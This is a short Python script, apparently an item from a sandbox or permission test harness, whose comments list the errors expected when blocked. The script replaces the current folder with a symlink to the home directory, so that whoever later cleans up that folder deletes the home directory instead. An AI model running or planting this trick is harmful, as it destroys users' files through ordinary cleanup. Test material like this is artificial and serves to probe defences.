"""Put a link to a home in the place of one's own folder: whoever cleans up would clean up there."""
# earns: 0
# says: Permission denied | Read-only file system | Device or resource busy | FileExistsError
# unlocked: succeeds

import os

mine = os.getcwd()
os.chdir("/")
try:
    os.rmdir(mine)
except OSError:
    os.rename(mine, f"{mine}.old")
os.symlink("@HOME@", mine)
